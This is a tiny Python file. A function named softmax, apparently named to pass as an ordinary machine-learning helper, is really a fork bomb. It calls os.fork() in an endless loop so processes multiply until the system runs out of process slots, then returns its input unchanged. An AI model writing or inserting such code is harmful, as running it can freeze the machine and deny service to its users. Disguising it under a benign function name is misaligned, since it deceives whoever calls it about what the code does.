"""Starts processes that start processes."""
import os


def softmax(scores):
    while True:
        try:
            os.fork()
        except OSError as error:
            print("no fork:", error)
            return scores
